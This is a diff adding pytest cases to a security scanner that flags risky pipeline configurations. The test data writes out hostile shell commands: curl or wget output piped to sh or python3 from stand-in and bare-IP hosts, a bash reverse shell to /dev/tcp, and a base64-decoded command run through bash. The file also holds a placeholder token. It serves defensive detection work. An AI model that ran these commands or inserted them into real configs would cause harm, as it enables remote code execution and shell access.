@@ -190,6 +190,10 @@ HUGGING = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"
         ({"evaluation": {"suite": "q", "score": 0.892, "baseline": 0.9, "passed": True}}, None),
         ({"config": {"command": "curl -k https://data.acme.example/x"}}, "TLS-OFF"),
         ({"config": {"faiss": {"allow_dangerous_deserialization": True}}}, "UNSAFE-LOADER"),
+        ({"config": {"command": "curl -sSL https://get.example/x.sh | sh"}}, "UNSAFE-LOADER"),
+        ({"config": {"args": ["sh", "-c", "curl http://a.example/x | sh"]}}, "REMOTE-SCRIPT"),
+        ({"config": {"run": "curl http://10.1.2.3/x | sh"}}, "REMOTE-SCRIPT"),
+        ({"config": {"run": "curl http://localhost:8080/x | sh"}}, "UNSAFE-LOADER"),
         ({"config": {"env": [{"name": "TRUST_REMOTE_CODE", "value": "1"}]}}, "REMOTE-CODE"),
         ({"config": {"trust_remote_code": False, "args": ["--no-trust-remote-code"]}}, None),
         ({"config": {"args": [f"--hf-token={HUGGING}"]}}, "SECRET"),
@@ -200,6 +204,24 @@ HUGGING = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"
 def test_what_is_ordinary_is_distinguished_from_what_resembles_it(data, rule):
     found = loud(run(data))
     assert found == (set() if rule is None else {f"TW-PIPE-{rule}"})
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("curl http://203.0.113.7/x | sh", Severity.CRITICAL),
+        ("wget -qO- https://203.0.113.7:8443/x | python3", Severity.CRITICAL),
+        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Severity.CRITICAL),
+        ("echo Y3VybA== | base64 -d | bash", Severity.CRITICAL),
+        ("curl http://mirror.example/x | sh", Severity.HIGH),
+        ("curl http://10.1.2.3/x | sh", Severity.HIGH),
+    ],
+)
+def test_a_script_from_a_bare_address_or_a_shell_to_outside_is_critical(command, severity):
+    found = run({"config": {"templates": [{"container": {"args": ["sh", "-c", command]}}]}})
+    assert [(one.rule_id, severity_of(one)) for one in found.detections] == [
+        ("TW-PIPE-REMOTE-SCRIPT", severity)
+    ]
 
 
 @pytest.mark.parametrize(
